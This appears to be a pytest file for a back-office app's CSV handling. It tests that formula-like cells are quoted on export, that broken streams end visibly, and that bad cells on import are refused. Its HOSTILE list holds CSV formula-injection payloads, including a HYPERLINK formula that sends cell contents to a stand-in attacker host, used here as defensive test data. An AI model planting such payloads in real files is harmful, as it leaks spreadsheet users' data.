"""CSV files the system writes: a cell a spreadsheet would run as a formula arrives as text, and a stream that
breaks part-way says so in the file instead of ending silently. CSV files it reads: a cell it cannot use is refused
with its line."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import create_engine, text

from backoffice.extensions import db
from backoffice.services import ServiceError
from backoffice.services.csv_files import INCOMPLETE_LINE, CsvRows, csv_text, ending_visibly, neutral
from backoffice.services.licensing import export
from tests.factories import PASSWORD
from tests.licensing_helpers import make_code, make_product

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_quoted(value):
    assert neutral(value) == "'" + value
    [row] = list(csv.reader(io.StringIO(csv_text([[value]]), newline="")))
    assert row == ["'" + value]


def test_ordinary_cells_and_numbers_are_left_alone():
    assert [neutral(v) for v in ("ABCDE-12345", "Anti-Virus", "2026-01-01T00:00:00+00:00", -5, 3)] == \
        ["ABCDE-12345", "Anti-Virus", "2026-01-01T00:00:00+00:00", -5, 3]


def test_the_codes_export_and_the_generated_file_neutralise_a_product_name(app, make, console, client):
    product = make_product('=HYPERLINK("http://evil.example","x")')
    make_code(product)
    admin = make.staff("admin")
    console.login(admin.email, PASSWORD)
    exported = client.get("/console/codes/export.csv").get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["product"] == "'" + product.name
    generated = client.post("/console/codes/generate", data={
        "product": str(product.id), "count": "1", "seats": "1", "valid_from": "2026-01-01",
        "expires_on": "2027-12-31"}).get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(generated)))
    assert row["product"] == "'" + product.name


def test_a_stream_that_breaks_ends_with_a_line_saying_so(app):
    def pages():
        yield "code,product\n"
        yield "AAAAA-AAAAA-AAAAA-AAAAA,Anti-Virus\n"
        raise OSError("the database went away")

    assert list(ending_visibly(pages()))[-1] == INCOMPLETE_LINE


def test_an_export_whose_database_connection_dies_mid_stream_says_it_is_incomplete(
        app, make, console, client, monkeypatch, postgres_only):
    monkeypatch.setattr(export, "PAGE", 2)  # several pages from a handful of codes
    product = make_product("Anti-Virus")
    for _ in range(6):
        make_code(product)
    admin = make.staff("admin")
    console.login(admin.email, PASSWORD)
    response = client.get("/console/codes/export.csv")
    chunks = iter(response.response)
    received = [next(chunks), next(chunks)]  # the header and the first page: the export's transaction is open
    backend = db.session.execute(text("SELECT pg_backend_pid()")).scalar()
    killer = create_engine(app.config["SQLALCHEMY_DATABASE_URI"])
    with killer.connect() as connection:
        connection.execute(text("SELECT pg_terminate_backend(:pid)"), {"pid": backend})
    killer.dispose()
    received += list(chunks)
    body = "".join(c.decode() if isinstance(c, bytes) else c for c in received)
    assert response.status_code == 200
    assert body.endswith(INCOMPLETE_LINE)
    assert len(body.splitlines()) < 1 + 6 + 1  # not every code: the file says it is cut short
    db.session.rollback()


@pytest.mark.parametrize("content, message", [
    ("code,reason,note\r\nAAAA,fraud," + "x" * 140_000 + "\r\n", "Line 2 cannot be read: a cell is longer than"),
    ("code,reason,note\r\nAAAA,fraud,a\x00b\r\n", "Line 2: a cell cannot be used. This contains a NUL character"),
    ("code,reason,note\r\nAAAA,fraud,\x1b[31m\r\n", "Line 2: a cell cannot be used. This contains a control"),
])
def test_a_file_that_cannot_be_read_is_refused_with_its_line(content, message):
    with pytest.raises(ServiceError, match=re.escape(message)):
        list(CsvRows(io.StringIO(content, newline="")))


def test_bytes_that_are_not_utf8_are_refused_with_the_line_they_start_on():
    lines = io.TextIOWrapper(io.BytesIO(b"code,reason\r\nAAAA,fraud\r\nBBBB,\xff\xfe\r\n"), encoding="utf-8-sig",
                             newline="")
    with pytest.raises(ServiceError, match="not UTF-8 text"):
        list(CsvRows(lines))
